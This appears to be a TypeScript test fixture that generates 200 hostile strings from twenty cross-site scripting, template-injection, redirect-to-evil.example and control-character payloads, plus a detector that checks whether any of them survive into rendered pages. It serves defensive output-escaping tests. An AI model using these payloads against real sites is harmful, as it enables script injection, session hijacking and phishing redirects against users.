/** Two hundred texts that want to be more than texts: markup, scripts, handlers, directions, controls. */

const PAYLOADS: readonly ((n: number) => string)[] = [
  (n) => `<script>window.hacked=${n}</script>`,
  (n) => `"><img src=x onerror="window.hacked=${n}">`,
  (n) => `'><svg/onload=window.hacked=${n}>`,
  (n) => `</td></tr></table><iframe srcdoc="<script>parent.hacked=${n}</script>">`,
  (n) => `</svg><a href="javascript:window.hacked=${n}">x</a>`,
  (n) => `" autofocus onfocus="window.hacked=${n}" x="`,
  (n) => `' style='position:fixed' onmouseover='window.hacked=${n}`,
  (n) => `</option></select><body onload=window.hacked=${n}>`,
  (n) => `<%= process.exit(${n}) %>`,
  (n) => `\${window.hacked=${n}}{{constructor.constructor('window.hacked=${n}')()}}`,
  (n) => `&lt;script&gt;window.hacked=${n}&lt;/script&gt;`,
  (n) => `<div hx-get="/console/sign-out" hx-trigger="load">${n}</div>`,
  (n) => `<form action="//evil.example/${n}"><button>`,
  (n) => `<base href="//evil.example/${n}/"><link rel=stylesheet href="x.css">`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
  (n) => `\u202e\u2066gnp.exe\u2069 ${n}`,
  (n) => `\u0007\u001b[31m${n}\u0000\u0085`.replaceAll('\u0000', ''),
  (n) => `<!-- ${n} --><textarea><title><noscript><plaintext>`,
  (n) => `]]>${n}<![CDATA[<x onclick=window.hacked=1>`,
  (n) => `javascript:window.hacked=${n}//`,
]

export const HOSTILE: readonly string[] = Array.from({ length: 200 }, (_, n) =>
  (PAYLOADS[n % PAYLOADS.length] ?? String)(n),
)

// oxlint-disable-next-line eslint/no-control-regex -- these must not reach a page
const CONTROLS = /[\u0007\u001b\u0085\u202a-\u202e\u2066-\u2069]/u
const FOREIGN =
  /<(?:iframe|img|base|plaintext|textarea)|\son\w+\s*=\s*["']?\w|<script(?! src="" defer>)/

/** What in a page cannot come from our templates: tags, handlers, addresses, controls. */
export function foreignIn(body: string): string[] {
  // What is quoted or stands between tags is text, whatever it looks like.
  const markup = body.replaceAll(/"[^"]*"/g, '""').replaceAll(/>[^<]*</g, '><')
  const found = [
    FOREIGN.exec(markup)?.[0],
    CONTROLS.exec(body)?.[0],
    /href="(?!\/console|data:,|#)[^"]*/.exec(body)?.[0],
  ]
  return found.filter((it) => it !== undefined)
}
